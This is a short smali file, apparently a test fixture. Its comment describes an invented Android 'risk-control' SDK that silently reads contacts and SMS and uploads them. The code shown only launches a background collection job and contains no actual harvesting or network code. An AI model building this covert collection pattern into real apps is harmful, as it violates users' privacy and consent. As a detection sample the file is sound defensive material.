# SPDX-License-Identifier: Apache-2.0
# An invented risk-control SDK: reads contacts and SMS on its own and sends them to its own server.
.class public final Lorg/example/riskradar/sdk/RiskRadar;
.super Ljava/lang/Object;
.source "RiskRadar.java"

.method public static start(Landroid/content/Context;Ljava/lang/String;)V
    .locals 2
    invoke-virtual {p0}, Landroid/content/Context;->getApplicationContext()Landroid/content/Context;
    move-result-object v0
    new-instance v1, Lorg/example/riskradar/sdk/internal/CollectJob;
    invoke-direct {v1, v0, p1}, Lorg/example/riskradar/sdk/internal/CollectJob;-><init>(Landroid/content/Context;Ljava/lang/String;)V
    new-instance v0, Ljava/lang/Thread;
    const-string p1, "riskradar"
    invoke-direct {v0, v1, p1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/lang/Thread;->start()V
    return-void
.end method
